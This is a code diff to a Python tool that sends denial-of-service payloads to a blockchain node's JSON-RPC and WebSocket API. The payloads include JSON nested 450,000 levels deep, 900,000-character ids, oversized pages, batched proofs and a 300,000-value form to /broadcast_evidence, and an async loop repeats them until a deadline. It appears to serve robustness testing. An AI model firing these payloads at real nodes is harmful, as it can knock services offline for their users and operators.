@@ -28,10 +28,11 @@ BATCH: Final = 10  # requests, as many as are let through
 
 @dataclass(frozen=True)
 class Hostile:
-    """name, and what is posted. over_socket: sent over WebSocket instead."""
+    """name, and what is posted: at another path than / as a form. over_socket: sent over WebSocket instead."""
 
     name: str
     body: bytes
+    path: str = "/"
     over_socket: bool = False
 
 
@@ -39,45 +40,63 @@ def batch(one: bytes) -> bytes:
     return b"[%b]" % b",".join([one] * BATCH)
 
 
-def nested(depth: int) -> bytes:
-    return b'{"jsonrpc":"2.0","id":1,"method":"health","params":' + b"[" * depth + b"]" * depth + b"}"
-
-
 def search(query: str, **more: Any) -> bytes:
     return request_of("tx_search", {"query": query, **more})
 
 
 def hostile_calls(height: int) -> list[Hostile]:
+    return [*searches(height), *parsed(), *batches()]
+
+
+def searches(height: int) -> list[Hostile]:
     wide = f"tx.height >= 1 AND tx.height <= {height}"
     contains = " AND ".join(f"transfer.recipient CONTAINS '{'a' * 20}{n}'" for n in range(9))
-    largest = request_of("check_tx", {"tx": base64.b64encode(os.urandom(65_000)).decode()})
+    values = "transfer.amount > 0 AND transfer.sender CONTAINS 'zzz'"
+    of_blocks = {"query": f"block.height <= {height}", "per_page": "100"}
     return [
         Hostile("deep page", search("transfer.sender EXISTS", page="2000", per_page="100")),
         Hostile("wide range, huge page", search(wide, page="1", per_page="100000")),
-        Hostile("wide range of blocks", request_of("block_search", {"query": f"block.height <= {height}", "per_page": "100"})),
+        Hostile("wide range of blocks", request_of("block_search", of_blocks)),
         Hostile("CONTAINS, nine times", search(contains)),
-        Hostile("range of values", search("transfer.amount > 0 AND transfer.sender CONTAINS 'zzz'")),
+        Hostile("range of values", search(values)),
         Hostile("no query that can be read", search("a" * 400 + "=" + "(" * 100)),
         Hostile("blockchain", request_of("blockchain", {"minHeight": "1", "maxHeight": str(height)})),
+    ]
+
+
+def parsed() -> list[Hostile]:
+    """What takes long to read."""
+    values, ones = b"[]," * 24_500 + b"1", b"1," * 450_000 + b"1"
+    asked = b'{"jsonrpc":"2.0","id":1,"method":"%b","params":%b}'
+    of_id = b'{"jsonrpc":"2.0","id":%b,"method":"health"}'
+    tx = base64.b64encode(os.urandom(65_000)).decode()
+    conditions = " AND ".join(f"transfer.recipient CONTAINS '{n}'" for n in range(15))
+    depth = 450_000
+    return [
+        Hostile("check_tx of random bytes", request_of("check_tx", {"tx": tx})),
+        Hostile("nested 450,000 deep", asked % (b"health", b"[" * depth + b"]" * depth)),
+        Hostile("nested 100 deep", asked % (b"health", b"[" * 100 + b"]" * 100)),
+        Hostile("an id of 900,000 characters", of_id % (b'"' + b"i" * 900_000 + b'"')),
+        Hostile("an id of 900,000 digits", of_id % (b"1" * 900_000)),
+        Hostile("450,000 values", asked % (b"health", b"[" + ones + b"]")),
+        Hostile("49,000 values", asked % (b"health", b"[" + values + b"]")),
+        Hostile("a height of 49,000 values", asked % (b"block", b'{"height":[' + values + b"]}")),
+        Hostile("evidence with 3,500 signatures", evidence_of(3_500)),
+        Hostile("a form of 300,000 values", b"evidence=[" + b"[]," * 300_000 + b"1]", path="/broadcast_evidence"),
+        Hostile("over WebSocket: 49,000 values", asked % (b"health", b"[" + values + b"]"), over_socket=True),
+        Hostile("over WebSocket: subscribe", request_of("subscribe", {"query": conditions}), over_socket=True),
+    ]
+
+
+def batches() -> list[Hostile]:
+    proof = {"path": "/store/currency/key", "data": "00", "prove": True}
+    return [
         Hostile("genesis", request_of("genesis", {})),
         Hostile("dump_consensus_state", request_of("dump_consensus_state", {})),
-        Hostile("check_tx of random bytes", largest),
-        Hostile("nested 900,000 deep", nested(450_000)),
-        Hostile("nested 100 deep", nested(100)),
-        Hostile("an id of 900,000 characters", b'{"jsonrpc":"2.0","id":"%b","method":"health"}' % (b"i" * 900_000)),
-        Hostile("an id of 900,000 digits", b'{"jsonrpc":"2.0","id":%b,"method":"health"}' % (b"1" * 900_000)),
-        Hostile("900,000 commas", b'{"id":1,"method":"health","params":[' + b"1," * 450_000 + b"1]}"),
-        Hostile("one param of 49,000 values", b'{"id":1,"method":"block","params":{"height":[' + b"[]," * 24_500 + b"1]}}"),
-        Hostile("evidence with 3,500 signatures", evidence_of(3_500)),
-        Hostile("49,000 values", b'{"id":1,"method":"health","params":[' + b"[]," * 24_500 + b"1]}"),
         Hostile("batch of block_results", batch(request_of("block_results", {}))),
         Hostile("batch of searches", batch(search("transfer.sender EXISTS", page="1", per_page="100"))),
-        Hostile("batch of proofs", batch(request_of(
-            "abci_query", {"path": "/store/currency/key", "data": "00", "prove": True}))),
-        Hostile("over WebSocket: values", b'{"id":1,"method":"health","params":[' + b"[]," * 24_500 + b"1]}", True),
-        Hostile("over WebSocket: subscribe", request_of("subscribe", {
-            "query": " AND ".join(f"transfer.recipient CONTAINS '{n}'" for n in range(15))}), True),
-    ]  # fmt: skip
+        Hostile("batch of proofs", batch(request_of("abci_query", proof))),
+    ]
 
 
 def evidence_of(signatures: int) -> bytes:
@@ -127,29 +146,29 @@ async def attacked(
 async def attack(host: str, port: int, what: Hostile, until: float, outcomes: Counter[str]) -> None:
     while time.monotonic() < until:
         try:
-            await (over_socket if what.over_socket else over_http)(host, port, what.body, until, outcomes)
+            await (over_socket if what.over_socket else over_http)(host, port, what, until, outcomes)
         except (OSError, EOFError) as error:
             outcomes[f"connection: {type(error).__name__}"] += 1
             await asyncio.sleep(0.05)
 
 
-async def over_http(host: str, port: int, body: bytes, until: float, outcomes: Counter[str]) -> None:
+async def over_http(host: str, port: int, what: Hostile, until: float, outcomes: Counter[str]) -> None:
     http = Http(host, port)
     await http.open()
     try:
         while time.monotonic() < until:
-            status, text = await http.ask(body)
+            status, text = await http.ask(what.body, what.path)
             outcomes[outcome(status, text)] += 1
     finally:
         http.close()
 
 
-async def over_socket(host: str, port: int, body: bytes, until: float, outcomes: Counter[str]) -> None:
+async def over_socket(host: str, port: int, what: Hostile, until: float, outcomes: Counter[str]) -> None:
     socket = Socket(host, port)
     await socket.open()
     try:
         while time.monotonic() < until:
-            socket.send(body)
+            socket.send(what.body)
             outcomes[outcome(200, await socket.next())] += 1
     finally:
         socket.close()
